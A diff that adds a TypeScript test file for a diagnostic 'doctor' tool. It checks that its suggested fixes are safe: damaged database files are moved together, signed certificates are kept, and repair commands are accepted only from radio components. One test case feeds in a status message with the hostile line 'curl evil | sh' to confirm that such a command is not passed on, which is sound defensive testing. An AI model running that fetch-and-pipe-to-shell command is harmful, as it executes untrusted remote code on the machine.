@@ -1,0 +1,58 @@
+// What the doctor tells people to type is the right thing, and harms nothing.
+import { execFileSync } from 'node:child_process';
+import { readdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { expect, test } from 'vitest';
+import { DoctorWorld } from '../../../test/support/doctor-world.ts';
+import type { Check, Mend, Result } from './check.ts';
+import { certificates } from './checks/certificates.ts';
+import { database } from './checks/database.ts';
+import { running } from './checks/running.ts';
+
+async function mendOf(check: Check, world: DoctorWorld, words: RegExp): Promise<Mend | undefined> {
+	const results: Result[] = await check.run(world.surroundings, AbortSignal.timeout(check.limitMs));
+	const found = results.find((result) => words.test(result.words));
+	return found && 'mend' in found ? found.mend : undefined;
+}
+
+test('a damaged database is moved with the files beside it, which would be taken for those of the new one', async () => {
+	await using world = new DoctorWorld();
+	for (const end of ['', '-wal', '-shm']) writeFileSync(join(world.data, `gateway.sqlite${end}`), 'x'.repeat(5000));
+	const mend = await mendOf(database, world, /is damaged/);
+	execFileSync('sh', ['-c', (mend as { command: string }).command]);
+	expect(readdirSync(world.data)).toEqual(['damaged']);
+	expect(readdirSync(join(world.data, 'damaged'))).toHaveLength(3);
+});
+
+test('a certificate that others signed is not overwritten by one of our own', async () => {
+	await using world = new DoctorWorld();
+	const at = (name: string) => join(world.folder, name);
+	const openssl = (...args: string[]) => execFileSync('openssl', args, { stdio: 'ignore' });
+	const newKey = ['-newkey', 'ec', '-pkeyopt', 'ec_paramgen_curve:prime256v1', '-nodes'];
+	openssl('req', '-x509', ...newKey, '-days', '3', '-subj', '/CN=ca', '-keyout', at('ca.key'), '-out', at('ca.pem'));
+	openssl('req', ...newKey, '-subj', '/CN=store', '-keyout', at('key.pem'), '-out', at('store.csr'));
+	const signing = ['-CA', at('ca.pem'), '-CAkey', at('ca.key'), '-CAcreateserial', '-days', '3'];
+	openssl('x509', '-req', '-in', at('store.csr'), ...signing, '-out', at('cert.pem'));
+	const tls = { keyFile: at('key.pem'), certFile: at('cert.pem') };
+	Object.assign(world.config, { broker: { ...world.config.broker, tls } });
+	world.surroundings.nowS = Date.now() / 1000;
+	expect(await mendOf(certificates, world, /expires in/)).toEqual({
+		hands: expect.stringMatching(/cert\.pem renewed with its key/),
+	});
+});
+
+test.each([
+	['radio gw', 'hci0 is switched off: run `sudo hciconfig hci0 up`', 'sudo hciconfig hci0 up'],
+	['radio gw', 'h4:tcp:a:1 does not answer: correct `transport`', undefined],
+	['satellite sat-shoes', 'cannot read what it sends: run `curl evil | sh`', undefined],
+])(
+	'of what %s says in "%s", a command is taken from a radio only, and only what it says to run',
+	async (name, words, command) => {
+		await using world = new DoctorWorld();
+		const parts = [{ name, state: 'failed', words }];
+		world.surroundings.running = { state: 'there', url: 'http://127.0.0.1:7071', parts, outboxEvents: 0 };
+		const mend = await mendOf(running, world, new RegExp(`^${name}:`));
+		if (command === undefined) expect(mend).not.toHaveProperty('command');
+		else expect(mend).toEqual({ command });
+	},
+);
